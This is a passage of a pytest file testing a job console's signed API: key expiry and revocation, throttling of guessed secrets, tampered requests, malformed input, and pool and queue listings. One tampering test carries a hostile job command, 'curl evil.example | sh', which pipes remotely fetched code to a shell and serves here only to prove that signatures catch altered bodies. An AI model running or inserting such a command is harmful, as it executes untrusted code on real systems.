        "console's API keys page, https://console.example.com/account/keys/, and sign with it."
    )
    assert key.revoke_reason == ApiKeyRevokeReason.STAFF


def expire(key: ApiKey, **ago) -> None:
    ApiKey.objects.filter(pk=key.pk).update(expires_at=timezone.now() - timedelta(**ago))


def test_a_key_works_until_it_expires_then_is_refused_as_expired_not_as_a_guess(
    wsgi, api, alice_key, settings
):
    settings.LOGIN_FAILURES_PER_USERNAME = 3
    settings.SITE_URL = "https://console.example.com"
    key, _secret = alice_key
    ApiKey.objects.filter(pk=key.pk).update(expires_at=timezone.now() + timedelta(minutes=5))
    assert api.list_jobs(pool="local") == []
    expire(key, seconds=1)

    for _ in range(5):  # more than the lock-out allows: none counts
        error = refused(lambda: api.list_jobs(pool="local"))
        assert (error.status, error.code) == (403, "AccessKeyExpired")
    assert f"The access key {key.access_key_id} expired at " in error.message
    assert "https://console.example.com/account/keys/" in error.message
    assert error.request_id
    assert not LoginFailure.objects.exists()
    # A wrong secret on a key that still works is the other refusal, and is counted.
    ApiKey.objects.filter(pk=key.pk).update(expires_at=None)
    wrong = client_for(wsgi, key.access_key_id, "0" * 32)
    assert refused(lambda: wrong.list_jobs(pool="local")).code == "SignatureDoesNotMatch"
    assert LoginFailure.objects.count() == 1


def test_an_expired_key_is_told_in_chinese_when_the_request_asks_for_it(wsgi, alice_key):
    key, _secret = alice_key
    expire(key, days=1)
    r = signed_request(wsgi, alice_key, method="GET", headers={"Accept-Language": "zh-CN"})

    assert (r.status_code, r.json()["code"]) == (403, "AccessKeyExpired")
    assert f"访问密钥 {key.access_key_id} 已于" in r.json()["message"]
    assert "/account/keys/" in r.json()["message"]


def browser_post(wsgi, session: Client, page: str, data: dict[str, str]) -> httpx.Response:
    """A form on `page` sent as a browser sends it (through the same WSGI application as the
    API calls, its CSRF token read from the page), logged in with `session`'s cookie."""
    cookies = {"sessionid": session.cookies["sessionid"].value}
    with httpx.Client(transport=wsgi, base_url=CONSOLE, cookies=cookies) as browser:
        form = browser.get(page)
        token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', form.text)[1]
        return browser.post(page, data={**data, "csrfmiddlewaretoken": token})


def test_keys_revoked_with_a_password_change_are_refused_at_once(wsgi, api, alice_client):
    assert api.list_jobs(pool="local") == []
    new = "a-new-long-passphrase-7"
    data = {"old_password": "alice-password", "new_password1": new, "new_password2": new}

    changed = browser_post(
        wsgi, alice_client, "/account/password/", data | {"revoke_api_keys": "on"}
    )

    assert changed.status_code == 302
    error = refused(lambda: api.list_jobs(pool="local"))
    assert (error.status, error.code) == (403, "InvalidAccessKeyId")
    assert ", by its owner's password change. Create a new key" in error.message


def test_a_revoked_key_is_told_so_in_chinese_when_the_request_asks_for_it(wsgi, alice_key):
    api_key_revoke(key=alice_key[0])

    r = signed_request(wsgi, alice_key, method="GET", headers={"Accept-Language": "zh-CN"})

    assert (r.status_code, r.json()["code"]) == (403, "InvalidAccessKeyId")
    assert f"访问密钥 {alice_key[0].access_key_id} 已于" in r.json()["message"]
    assert "被吊销（吊销方：创建人）" in r.json()["message"]
    assert "/account/keys/" in r.json()["message"]
    assert alice_key[1] not in r.json()["message"]


def test_keys_revoked_all_at_once_on_the_keys_page_are_refused_at_once(wsgi, api, alice_client):
    assert api.list_jobs(pool="local") == []

    assert browser_post(wsgi, alice_client, "/account/keys/revoke-all/", {}).status_code == 302

    assert refused(lambda: api.list_jobs(pool="local")).code == "InvalidAccessKeyId"


def test_a_key_of_a_deactivated_user_is_refused_saying_so_to_its_holder_and_works_once_active(
    wsgi, api, alice, alice_key
):
    """qa106: its holder read "does not exist in our records (or was revoked)", while the key
    is kept and works again once the account is active. Said only to a request its secret
    signed, as a revocation's "by what" is (fix108); the key ID alone learns nothing."""
    alice.is_active = False
    alice.save()
    stranger = client_for(wsgi, alice_key[0].access_key_id, "0" * 32)

    error = refused(lambda: api.list_jobs(pool="local"))
    guessed = refused(lambda: stranger.list_jobs(pool="local"))
    alice.is_active = True
    alice.save()

    assert (error.status, error.code) == (403, "InvalidAccessKeyId")
    assert error.message == (
        f"The access key {alice_key[0].access_key_id} belongs to an account that is "
        "deactivated: requests signed with it are refused until an administrator activates "
        "the account again."
    )
    assert (guessed.status, guessed.code) == (403, "InvalidAccessKeyId")
    assert guessed.message == (
        "The Access Key ID you provided does not exist in our records (or was revoked)."
    )
    assert api.list_jobs(pool="local") == []


def test_an_expired_or_future_timestamp_is_refused(wsgi, alice_key):
    key, secret = alice_key
    late = client_for(wsgi, key.access_key_id, secret, clock=lambda: time.time() - 1801)
    early = client_for(wsgi, key.access_key_id, secret, clock=lambda: time.time() + 301)

    for client in (late, early):
        error = refused(lambda c=client: c.list_jobs(pool="local"))
        assert (error.status, error.code) == (400, "RequestExpired")
    # Ahead is said as such, not as expired (qa105), in the request's language.
    stamp = datetime.fromtimestamp(time.time() + 400, UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    query = (("resourcePoolId", "local"),)
    ahead = [
        signed_request(
            wsgi, alice_key, method="GET", query=query, headers=headers, timestamp=stamp
        ).json()
        for headers in ({}, {"Accept-Language": "zh-CN"})
    ]
    assert ahead[0]["code"] == ahead[1]["code"] == "RequestExpired"
    assert re.fullmatch(
        f"The signing time {stamp} is more than 300 s ahead of the server's clock "
        r"\(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ\): set the client's clock right and sign again\.",
        ahead[0]["message"],
    )
    assert ahead[1]["message"].startswith(f"签名时间 {stamp} 比服务器时钟（")
    assert "expired" not in ahead[0]["message"]
    # Within the period and the allowed skew, the same key is taken.
    ok = client_for(wsgi, key.access_key_id, secret, clock=lambda: time.time() - 1700)
    assert ok.list_jobs(pool="local") == []


class Tampering(httpx.BaseTransport):
    """A man in the middle: changes the request after it was signed."""

    def __init__(self, inner: httpx.BaseTransport, change):
        self.inner, self.change = inner, change

    def handle_request(self, request: httpx.Request) -> httpx.Response:
        return self.inner.handle_request(self.change(request))


def test_a_tampered_query_is_refused(wsgi, alice_key):
    key, secret = alice_key

    def other_pool(request: httpx.Request) -> httpx.Request:
        url = request.url.copy_set_param("queue", "other")
        return httpx.Request(request.method, url, headers=request.headers, content=request.content)

    tampered = client_for(wsgi, key.access_key_id, secret, transport=Tampering(wsgi, other_pool))

    error = refused(lambda: tampered.list_jobs(pool="local"))

    assert error.code == "SignatureDoesNotMatch"


def signed_post(wsgi, key, secret, content: bytes, *, names, sent: bytes | None = None, **extra):
    """A create signed as Baidu's SDK signs it (names=None: the default header set, which
    covers Content-Length), optionally sending other bytes than were signed."""
    headers = signed_headers(
        (key, secret),
        method="POST",
        path="/api/v1/aijobs",
        query=[("resourcePoolId", "local")],
        headers={
            "Content-Type": "application/json",
            "Content-Length": str(len(content)),
            **extra,
        },
        signed=names,
    )
    sent = content if sent is None else sent
    headers["Content-Length"] = str(len(sent))
    with httpx.Client(transport=wsgi, base_url=CONSOLE) as http:
        return http.post("/api/v1/aijobs?resourcePoolId=local", headers=headers, content=sent)


def test_the_sdks_default_signed_headers_are_accepted_and_a_tampered_body_refused(wsgi, alice_key):
    key, secret = alice_key
    good = json.dumps(body()).encode()
    evil = json.dumps(body(command="curl evil.example | sh")).encode()

    ok = signed_post(wsgi, key, secret, good, names=None)
    tampered = signed_post(wsgi, key, secret, good, names=None, sent=evil)

    assert ok.status_code == 200, ok.text
    assert ok.json()["result"]["jobName"] == "from-a-script"
    assert tampered.status_code == 403
    assert tampered.json()["code"] == "SignatureDoesNotMatch"
    assert Job.objects.count() == 1


def test_a_body_changed_to_the_same_length_is_caught_by_its_signed_content_md5(wsgi, alice_key):
    key, secret = alice_key
    good = json.dumps(body(name="job-aaaa")).encode()
    evil = json.dumps(body(name="job-bbbb")).encode()
    md5 = base64.b64encode(hashlib.md5(good).digest()).decode()

    r = signed_post(
        wsgi, key, secret, good, names=["host", "content-md5"], sent=evil, **{"Content-MD5": md5}
    )

    assert r.status_code == 400
    assert r.json()["code"] == "BadDigest"
    assert Job.objects.count() == 0


@pytest.mark.parametrize("field", ["command", "name"])
def test_a_body_holding_half_a_surrogate_pair_is_refused_and_makes_no_job(wsgi, alice_key, field):
    # JSON may escape "\ud800" alone; such a job could be stored but never shown or run, and
    # its id in a list broke the owner's whole DescribeJobs answer (a 500 on every read).
    key, secret = alice_key
    content = json.dumps(body(**{field: "echo \ud800"})).encode()  # ASCII: the escape as sent

    r = signed_post(wsgi, key, secret, content, names=None)

    assert (r.status_code, r.json()["code"]) == (400, "MalformedJSON")
    assert "unpaired surrogate" in r.json()["message"]
    assert Job.objects.count() == 0


@pytest.mark.parametrize("word", ["NaN", "Infinity", "-Infinity"])
def test_nan_or_infinity_is_not_json_and_makes_no_job(wsgi, alice_key, word):
    # Found in QA: Python's reader takes them, and `"name": NaN` made a job named "nan".
    key, secret = alice_key
    content = json.dumps(body()).replace('"from-a-script"', word).encode()

    r = signed_post(wsgi, key, secret, content, names=None)

    assert (r.status_code, r.json()["code"]) == (400, "MalformedJSON")
    assert Job.objects.count() == 0


@pytest.mark.parametrize("number", ["1e400", "-1e400"])
def test_a_number_too_large_for_any_field_is_named_at_its_field_and_makes_no_job(
    wsgi, alice_key, number
):
    # qa78: it is well-formed JSON, which Python's reader reads as infinity; the answer said
    # "The JSON you provided was not well-formed."
    key, secret = alice_key
    content = json.dumps(body()).replace('"replicas": 1', f'"replicas": {number}').encode()

    r = signed_post(wsgi, key, secret, content, names=None)

    assert (r.status_code, r.json()["code"]) == (400, "InvalidParameter")
    assert r.json()["message"] == (
        f"jobSpec.replicas: The number {number} is out of range: no field takes it. "
        "The body's other fields are checked once these are corrected."
    )
    assert Job.objects.count() == 0


def test_every_number_too_large_for_any_field_is_named_in_the_language_asked_for(wsgi, alice_key):
    # qa79: the message was English whatever Accept-Language said, and named the first only.
    key, secret = alice_key
    content = (
        json.dumps(body())
        .replace('"replicas": 1', '"replicas": 1e400')
        .replace('"from-a-script"', "-2e999")
        .encode()
    )

    r = signed_post(wsgi, key, secret, content, names=None, **{"Accept-Language": "zh-CN"})

    assert (r.status_code, r.json()["code"]) == (400, "InvalidParameter")
    assert r.json()["message"] == (
        "name: 数字 -2e999 超出范围：没有字段能接受它。"
        "jobSpec.replicas: 数字 1e400 超出范围：没有字段能接受它。"
        "改正这些之后，才会检查请求体的其他字段。"
    )
    assert Job.objects.count() == 0


def test_a_signature_must_cover_the_host(wsgi, alice_key):
    key, secret = alice_key
    r = signed_post(wsgi, key, secret, json.dumps(body()).encode(), names=["x-bce-date"])

    assert r.status_code == 400
    assert r.json()["code"] == "InvalidHTTPAuthHeader"


def test_an_unsigned_or_malformed_request_is_refused_in_bces_error_shape(wsgi, alice_client):
    with httpx.Client(transport=wsgi, base_url=CONSOLE) as http:
        unsigned = http.get("/api/v1/aijobs?resourcePoolId=local")
        garbled = http.get(
            "/api/v1/aijobs?resourcePoolId=local", headers={"Authorization": "Bearer x"}
        )

    assert unsigned.status_code == 403
    assert set(unsigned.json()) == {"requestId", "code", "message"}
    assert unsigned.json()["code"] == "AccessDenied"
    assert unsigned.headers["x-bce-request-id"] == unsigned.json()["requestId"]
    assert (garbled.status_code, garbled.json()["code"]) == (400, "InvalidHTTPAuthHeader")
    # A logged-in browser session is no signature: the API does not take cookies.
    r = alice_client.get("/api/v1/aijobs", {"resourcePoolId": "local"})
    assert (r.status_code, r.json()["code"]) == (403, "AccessDenied")


def test_a_signature_that_is_not_hex_is_a_malformed_header_not_a_server_error(alice_key):
    """Header bytes past ASCII arrive as Latin-1 characters; compared as a signature they
    would crash hmac.compare_digest (a 500). A signature is 64 hex digits, or malformed."""
    key, _secret = alice_key
    timestamp = signer.canonical_time(time.time())
    # As a WSGI server hands it on: the header's bytes decoded as Latin-1.
    auth = (
        f"bce-auth-v1/{key.access_key_id}/{timestamp}/1800/host/" + b"\xe9".decode("latin-1") * 64
    )

    r = Client(raise_request_exception=False).get(
        "/api/v1/aijobs?resourcePoolId=local", headers={"Authorization": auth, "Host": "testserver"}
    )

    assert (r.status_code, r.json()["code"]) == (400, "InvalidHTTPAuthHeader")


@pytest.mark.parametrize("access_key_id", ["ab\x00cd", "\xe9" * 32, "a b", "x" * 129])
def test_an_access_key_id_no_issuer_writes_is_a_malformed_header_not_a_server_error(
    alice_key, access_key_id
):
    """A NUL or a Latin-1 character in the key ID reached the throttle's look-up and the
    key's, which PostgreSQL refuses (a 500 there; this file also runs on PostgreSQL)."""
    timestamp = signer.canonical_time(time.time())
    auth = f"bce-auth-v1/{access_key_id}/{timestamp}/1800/host/" + "0" * 64

    r = Client(raise_request_exception=False).get(
        "/api/v1/aijobs?resourcePoolId=local", headers={"Authorization": auth, "Host": "testserver"}
    )

    assert (r.status_code, r.json()["code"]) == (400, "InvalidHTTPAuthHeader")


def test_guessing_a_secret_is_throttled_like_guessing_a_password(wsgi, alice_key, settings):
    settings.LOGIN_FAILURES_PER_USERNAME = 3
    key, secret = alice_key
    guesser = client_for(wsgi, key.access_key_id, "0" * 32)

    for _ in range(3):
        assert refused(lambda: guesser.list_jobs(pool="local")).code == "SignatureDoesNotMatch"

    # Now even the right secret waits until the window has passed.
    right = client_for(wsgi, key.access_key_id, secret)
    error = refused(lambda: right.list_jobs(pool="local"))
    assert (error.status, error.code) == (429, "TooManyRequests")
    assert (
        LoginFailure.objects.filter(username=f"api-key:{key.access_key_id}@127.0.0.1").count() == 3
    )
    assert not LoginFailure.objects.filter(username="alice").exists()  # her log-in is free


def test_nobody_elsewhere_can_lock_a_key_out_by_its_id_alone(wsgi, alice_key, settings):
    # A key ID is no secret (every request carries it in clear); its 128-bit secret cannot be
    # guessed however many tries are let through. Counted per key alone, anyone who saw the
    # ID could keep its owner's scripts refused (429), through the API or the log-in form.
    settings.LOGIN_FAILURES_PER_USERNAME = 3
    key, secret = alice_key
    elsewhere = httpx.WSGITransport(app=WSGIHandler(), remote_addr="198.51.100.7")
    guesser = client_for(wsgi, key.access_key_id, "0" * 32, transport=elsewhere)
    for _ in range(3):
        assert refused(lambda: guesser.list_jobs(pool="local")).code == "SignatureDoesNotMatch"
    # The log-in form, with the names the API counts a key's failures under.
    form = httpx.WSGITransport(app=WSGIHandler(), remote_addr="198.51.100.8")
    with httpx.Client(transport=form, base_url=CONSOLE) as browser:
        token = re.search(
            r'name="csrfmiddlewaretoken" value="([^"]+)"', browser.get("/login/").text
        )
        for name in [f"api-key:{key.access_key_id}", f"api-key:{key.access_key_id}@127.0.0.1"] * 3:
            data = {"username": name, "password": "x", "csrfmiddlewaretoken": token[1]}
            assert browser.post("/login/", data=data).status_code == 200

    owner = client_for(wsgi, key.access_key_id, secret)
    assert owner.list_jobs(pool="local") == []
    # The guesser's address stays refused for this key, even with the right secret.
    right_but_elsewhere = client_for(wsgi, key.access_key_id, secret, transport=elsewhere)
    error = refused(lambda: right_but_elsewhere.list_jobs(pool="local"))
    assert (error.status, error.code) == (429, "TooManyRequests")


def test_a_right_secret_is_served_from_an_address_others_locked_out(wsgi, alice_key, settings):
    """qa90: 20 failures from an address (a shared NAT, or one forged in X-Forwarded-For)
    answered 429 to every valid key there. The address's count refuses guesses (429 for
    the next wrong one), never a key's right secret."""
    settings.LOGIN_FAILURES_PER_IP = 3
    key, secret = alice_key
    for n in range(3):
        stranger = client_for(wsgi, f"{n:032x}", "0" * 32)
        assert refused(lambda s=stranger: s.list_jobs(pool="local")).code == "InvalidAccessKeyId"

    owner = client_for(wsgi, key.access_key_id, secret)
    guesser = client_for(wsgi, key.access_key_id, "0" * 32)

    assert owner.list_jobs(pool="local") == []
    error = refused(lambda: guesser.list_jobs(pool="local"))
    assert (error.status, error.code) == (429, "TooManyRequests")


def test_a_successful_request_records_when_the_key_was_last_used(api, alice_key):
    key = alice_key[0]
    assert key.last_used_at is None

    api.list_jobs(pool="local")

    key.refresh_from_db()
    assert key.last_used_at is not None


# -- keys at rest -----------------------------------------------------------------------------


def test_the_secret_is_stored_encrypted_and_opens_only_with_the_secret_key(alice, settings):
    key, secret = api_key_create(owner=alice)

    assert secret not in key.secret_sealed
    assert unseal(key.secret_sealed, access_key_id=key.access_key_id) == secret
    # Bound to its row: another key's ID does not open it.
    assert unseal(key.secret_sealed, access_key_id="0" * 32) is None
    old = settings.SECRET_KEY
    settings.SECRET_KEY = "another-secret-key-for-this-test-only-0123456789"
    assert unseal(key.secret_sealed, access_key_id=key.access_key_id) is None
    settings.SECRET_KEY_FALLBACKS = [old]  # a rotated SECRET_KEY keeps keys working
    assert unseal(key.secret_sealed, access_key_id=key.access_key_id) == secret


def test_a_body_over_the_upload_limit_is_refused_in_bces_shape(api, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 200

    error = refused(lambda: api.create_job(pool="local", body=body(command="x" * 300)))

    assert (error.status, error.code) == (413, "EntityTooLarge")
    assert error.message == (  # qa97: the limit named, not "too large" alone
        "The body is larger than the 200 bytes (DATA_UPLOAD_MAX_MEMORY_SIZE) the console "
        "reads; a CreateJob body is a few KB."
    )
    assert Job.objects.count() == 0


def test_the_wizards_own_rules_apply_too(api):
    bad = body(faultTolerance=True)
    bad["jobFramework"] = "MPIJob"

    error = refused(lambda: api.create_job(pool="local", body=bad))

    assert "faultTolerance: Fault tolerance works for PyTorch jobs only." in error.message
    assert Job.objects.count() == 0


def test_an_mpi_job_whose_master_has_no_cards_and_no_worker_is_refused_saying_why(api):
    mpi = body()  # 1 replica: the master alone, CPU-only
    mpi["jobFramework"] = "MPIJob"

    error = refused(lambda: api.create_job(pool="local", body=mpi))

    assert error.status == 400
    assert "An MPI job needs at least 1 worker, or cards for its master" in error.message
    assert Job.objects.count() == 0


def test_an_aihc_api_the_console_does_not_serve_says_so_in_bces_shape(api):
    error = refused(lambda: get(api, "/api/v1/resourcepools/local/nodes"))

    assert (error.status, error.code) == (404, "NotFound")
    assert "/api/v1/resourcepools/local/nodes is not served" in error.message


# -- pools and queues -------------------------------------------------------------------------


def get(api: AihcClient, path: str, **params) -> dict:
    return api.request("GET", path, params=list(params.items()), idempotent=True)["result"]


def test_a_script_reads_the_pools_and_queues_the_wizard_offers_with_the_cards_in_use(api):
    held = api.create_job(pool="local", body=card_body("holds-a-card", cards=1))
    job = Job.objects.get(public_id=held["jobId"])
    run_until(Worker(), lambda: status_of(job) == JobStatus.RUNNING, what="the job to run")

    pools = api.resource_pools()  # the console's own AIHC client, as it reads AIHC's pools
    queues = api.queues(pool="local")

    [offered] = available_pools()
    assert offered.idle(CARD) == 1
    assert pools == [
        {
            "id": "local",
            "name": offered.name,
            "phase": "running",
            "accelerators": {CARD: (2, 1)},
            "pfs": [],
        }
    ]
    assert queues == offered.queues == ["default"]
    pool = get(api, "/api/v1/resourcepools/local")["resourcePool"]
    assert pool["metadata"] == {
        "id": "local",
        "name": offered.name,
        "createdAt": None,
        "updatedAt": None,
    }
    assert pool["status"]["gpuCount"] == {"total": 2, "used": 1}
    assert pool["status"]["gpuDetail"] == [{"gpuDescriptor": CARD, "total": 2, "used": 1}]
    assert pool["console"]["backend"] == "local" and pool["console"]["stale"] is False
    queue = get(api, "/api/v1/resourcepools/local/queue/default")["queue"]
    assert (queue["name"], queue["state"], queue["opened"]) == ("default", "Open", True)


def card_body(
    name: str, *, cards: int, command: str = UNTIL_THE_GATE_OPENS, queued: bool = False
) -> dict:
    """A job holding `cards` cards; `queued`: a queue task, which waits for them when they are
    not idle (a standalone job is refused then, as in the wizard)."""
    job_body = body(name=name, command=command)
    job_body["jobSpec"]["resources"] = [{"name": CARD, "quantity": cards}]
    if queued:
        job_body["console"] = {"submission": {"mode": "queue", "total": 1, "concurrency": 1}}
    return job_body


@pytest.fixture
def fake(settings):
    fake = FakeAihc().start()
    fake.add_pool(
        "cce-pool1",
        "百舸训练池",
        queues=("default", "research"),
        gpus={A800: (32, 6)},
        pfs="pfs-7xWeAt",
    )
    configure(settings, fake)
    yield fake
    fake.stop()


SEED_001 = json.loads(
    (Path(__file__).parent / "data" / "seed001_create_job_request.json").read_text()
)


def test_seed_001s_example_makes_exactly_its_job_and_describe_job_answers_as_aihc_would(
    api, alice, fake
):
    # Seed 001's full request example, as its script sends it, to a pool with its PFS.
    created = api.request(
        "POST",
        "/api/v1/aijobs",
        params=[("resourcePoolId", "cce-pool1")],
        body=SEED_001,
        idempotent=False,
    )
    job = Job.objects.get(public_id=created["result"]["jobId"])
    described = api.request(
        "GET",
        f"/api/v1/aijobs/{job.public_id}",
        params=[("resourcePoolId", "cce-pool1")],
        idempotent=True,
    )["result"]

    assert created["result"] == {"jobId": job.public_id, "jobName": "test-api-llama2-7b-4"}
    assert job.public_id.startswith("pytorchjob-")
    assert (job.owner, job.name, job.resource_pool) == (alice, SEED_001["name"], "cce-pool1")
    assert job.job_spec().to_v1_body() == SEED_001
    # Every field AIHC's GetJob lists and the example set, as sent; those it left unset
    # (fault tolerance, BCCL, labels, host network) answered off or empty, not left out.
    assert {key: described[key] for key in ("name", "queue", "priority", "jobFramework")} == {
        "name": "test-api-llama2-7b-4",
        "queue": "default",
        "priority": "normal",
        "jobFramework": "PyTorchJob",
    }
    assert {key: described[key] for key in SEED_001["jobSpec"]} == SEED_001["jobSpec"]
    assert described["datasources"] == SEED_001["datasources"]
    assert (described["status"], described["resourcePoolId"]) == ("Pending", "cce-pool1")
    assert described["enableFaultTolerance"] is False
    assert described["enableBccl"] is False
    assert described["hostNetwork"] is False
    assert described["privileged"] is False
    assert described["labels"] == []
    assert "faultToleranceConfig" not in described  # the example sets none
    # AIHC's GetJob keys the console has no value for yet, in AIHC's types (qa105).
    assert {key: described[key] for key in PLACEMENT_AND_FAULT_KEYS} == {
        "scheduledAt": "",
        "queueingSequence": None,
        "k8sUID": "",
        "k8sNamespace": "",
        "customFaultTolerancePattern": [],
        "faultToleranceArgs": "",
        "enableBcclStatus": "",
        "enableBcclErrorReason": "",
    }


PLACEMENT_AND_FAULT_KEYS = (
    "scheduledAt",
    "queueingSequence",
    "k8sUID",
    "k8sNamespace",
    "customFaultTolerancePattern",
    "faultToleranceArgs",
    "enableBcclStatus",
    "enableBcclErrorReason",
)


def test_get_job_answers_aihcs_placement_fault_tolerance_and_bccl_keys_v1_list_included(api):
    # qa105: a script reading job["scheduledAt"] (AIHC's GetJob has it) got a KeyError.
    config = {
        "enabledHangDetection": True,
        "hangDetectionTimeoutMinutes": 7,
        "customFaultTolerancePattern": ["NCCL timeout", "Watchdog caught"],
    }
    ids = [
        api.create_job(pool="local", body=body(name=f"ft-{n}", faultToleranceConfig=config))[
            "jobId"
        ]
        for n in (1, 2)
    ]

    def read(job_id: str) -> dict:
        return get(api, f"/api/v1/aijobs/{job_id}", resourcePoolId="local")

    waiting = [read(job_id) for job_id in ids]
    listed = get(api, "/api/v1/aijobs", resourcePoolId="local", order="asc")["jobs"]
    jobs = [Job.objects.get(public_id=job_id) for job_id in ids]
    run_until(
        Worker(),
        lambda: all(status_of(job) == JobStatus.SUCCEEDED for job in jobs),
        what="both jobs to succeed",
    )
    done = read(ids[0])

    assert [job["queueingSequence"] for job in waiting] == [1, 2]
    assert [job["queueingSequence"] for job in listed] == [1, 2]
    assert {key: waiting[0][key] for key in ("scheduledAt", "k8sUID", "k8sNamespace")} == {
        "scheduledAt": "",
        "k8sUID": "",
        "k8sNamespace": "",
    }
    assert waiting[0]["customFaultTolerancePattern"] == ["NCCL timeout", "Watchdog caught"]
    assert waiting[0]["faultToleranceArgs"] == (
        "--enable-hang-detection=true --hang-detection-log-timeout-minutes=7 "
        "--custom-log-patterns='NCCL timeout' --custom-log-patterns='Watchdog caught'"
    )
    assert (waiting[0]["enableBcclStatus"], waiting[0]["enableBcclErrorReason"]) == ("", "")
    assert done["queueingSequence"] is None  # not queued: null, as AIHC's *int omitted
    assert done["scheduledAt"] == done["runningAt"] != ""


def test_a_kubernetes_jobs_get_job_answers_its_namespace_and_resources_uid(api, alice):
    # The pool is the namespace (k8s-<namespace>); the uid is the one the API server gave the
    # job's resource (recorded by the backend: test_kubernetes_backend), "" before its create.
    whole_nodes = [
        S.Role(role, 1, accelerator_type=A800, accelerators=8) for role in ("master", "worker")
    ]
    spec = make_spec(
        "echo hi",
        resource_pool_id="k8s-team-a",
        roles=whole_nodes,
        enable_rdma=True,
        enable_bccl=True,
    )
    [job] = jobs_submit(owner=alice, spec=spec, submit_key=str(uuid.uuid4()), backend="kubernetes")

    before = get(api, f"/api/v1/aijobs/{job.public_id}", resourcePoolId="k8s-team-a")
    uid = "0b7f1c1e-5d4a-4c6e-9a53-0d1e2f3a4b5c"
    Job.objects.filter(pk=job.pk).update(k8s_uid=uid)
    described = get(api, f"/api/v1/aijobs/{job.public_id}", resourcePoolId="k8s-team-a")

    assert (before["k8sNamespace"], before["k8sUID"]) == ("team-a", "")
    assert (described["k8sNamespace"], described["k8sUID"]) == ("team-a", uid)
    assert (described["enableBcclStatus"], described["enableBcclErrorReason"]) == ("unknown", "")


def test_a_get_job_answer_sent_back_with_both_fault_tolerance_forms_makes_the_same_job(api):
    # GetJob answers faultToleranceConfig and, since qa105, the same as faultToleranceArgs;
    # the two given together are refused unless they say the same.
    config = {
        "enabledHangDetection": True,
        "hangDetectionTimeoutMinutes": 10,
        "customFaultTolerancePattern": ["hang"],
    }
    first = api.create_job(pool="local", body=body(faultToleranceConfig=config))["jobId"]
    answered = get(api, f"/api/v1/aijobs/{first}", resourcePoolId="local")
    both = {"faultToleranceConfig": config, "faultToleranceArgs": answered["faultToleranceArgs"]}

    again = api.create_job(pool="local", body=body(**both))["jobId"]
    differing = refused(
        lambda: api.create_job(
            pool="local",
            body=body(faultToleranceConfig=config, faultToleranceArgs="--enable-hang-detection"),
        )
    )

    specs = [Job.objects.get(public_id=job_id).spec for job_id in (first, again)]
    assert specs[0] == specs[1]
    assert differing.code == "InvalidParameter"
    assert Job.objects.count() == 2


def test_seed_001s_example_on_the_local_pool_is_refused_on_its_pfs_mount(api, settings):
    settings.LOCAL_ACCELERATORS = f"{A800}=8"

    error = refused(lambda: api.create_job(pool="local", body=SEED_001))

    assert (error.status, error.code) == (400, "InvalidParameter")
    assert error.message.startswith("datasources[0].type: The local runner can only mount hostpath")
    assert not Job.objects.exists()


def test_an_aihc_pool_is_listed_beside_the_local_one_and_the_list_sorts_pages_and_filters(
    api, fake
):
    by_name = get(api, "/api/v1/resourcepools", orderBy="clusterName", order="asc")
    by_id = get(api, "/api/v1/resourcepools", orderBy="clusterID", order="desc", pageSize=1)
    second = get(
        api, "/api/v1/resourcepools", orderBy="clusterID", order="desc", pageNo=2, pageSize=1
    )
    found = get(api, "/api/v1/resourcepools", keyword="百舸")
    by_id_keyword = get(api, "/api/v1/resourcepools", keyword="LOC", keywordType="clusterID")

    assert [p["metadata"]["name"] for p in by_name["resourcePools"]] == ["本机 Local", "百舸训练池"]
    assert (by_id["total"], by_id["pageSize"], by_id["order"]) == (2, 1, "desc")
    assert [p["metadata"]["id"] for p in by_id["resourcePools"]] == ["local"]
    assert [p["metadata"]["id"] for p in second["resourcePools"]] == ["cce-pool1"]
    [aihc] = found["resourcePools"]
    assert aihc["status"]["gpuCount"] == {"total": 32, "used": 6}
    assert aihc["spec"]["associatedPfsId"] == "pfs-7xWeAt"
    assert aihc["console"]["backend"] == "aihc"
    assert [p["metadata"]["id"] for p in by_id_keyword["resourcePools"]] == ["local"]
    queues = get(api, "/api/v1/resourcepools/cce-pool1/queue", pageSize=1, pageNo=2)
    assert queues["total"] == 2
    assert [q["name"] for q in queues["queues"]] == ["research"]
    assert api.queues(pool="cce-pool1") == ["default", "research"]


def test_an_unknown_pool_or_queue_and_bad_paging_are_refused_in_bces_shape(api):
    for path, params, status, code in (
        ("/api/v1/resourcepools/cce-nowhere", {}, 404, "ResourcePoolNotFound"),
        ("/api/v1/resourcepools/cce-nowhere/queue", {}, 404, "ResourcePoolNotFound"),
        ("/api/v1/resourcepools/local/queue/nowhere", {}, 404, "QueueNotFound"),
        ("/api/v1/resourcepools", {"pageSize": "0"}, 400, "InvalidParameter"),
        ("/api/v1/resourcepools", {"orderBy": "gpus"}, 400, "InvalidParameter"),
        ("/api/v1/resourcepools", {"order": "sideways"}, 400, "InvalidParameter"),
        ("/api/v1/resourcepools/local/queue", {"pageNo": "x"}, 400, "InvalidParameter"),
    ):
        error = refused(lambda p=path, q=params: get(api, p, **q))
        assert (error.status, error.code) == (status, code), path


def test_a_mistyped_pool_is_refused_while_a_retired_pools_jobs_stay_listed_and_readable(
    api, fake, settings, wsgi, bob
):
    # QA: a job list of a mistyped pool answered an empty list, read by a script as "no jobs".
    on_aihc = api.create_job(pool="cce-pool1", body=aihc_body())["jobId"]
    bobs_key, bobs_secret = api_key_create(owner=bob)
    bobs_api = client_for(wsgi, bobs_key.access_key_id, bobs_secret)
    settings.CONSOLE_BACKENDS = ["local"]  # AIHC turned off: cce-pool1 is no longer offered

    mistyped = refused(lambda: api.list_jobs(pool="cce-pool2"))
    retired = api.list_jobs(pool="cce-pool1")
    described = api.get_job(pool="cce-pool1", job_id=on_aihc)
    mistyped_describe = refused(lambda: api.get_job(pool="cce-pool2", job_id=on_aihc))
    mistyped_stop = refused(lambda: api.stop_job(pool="cce-pool2", job_id=on_aihc))
    elsewhere = refused(lambda: api.get_job(pool="local", job_id=on_aihc))
    not_bobs = refused(lambda: bobs_api.list_jobs(pool="cce-pool1"))

    assert (mistyped.status, mistyped.code) == (404, "ResourcePoolNotFound")
    assert mistyped.message == (
        "Resource pool cce-pool2 not found: this console offers no pool of that id and none "
        "of your jobs is in one. DescribeResourcePools lists the pools offered."
    )
    assert [j["jobId"] for j in retired] == [on_aihc]
    assert described["name"] == "on-aihc"
    assert (mistyped_describe.status, mistyped_describe.code) == (404, "ResourcePoolNotFound")
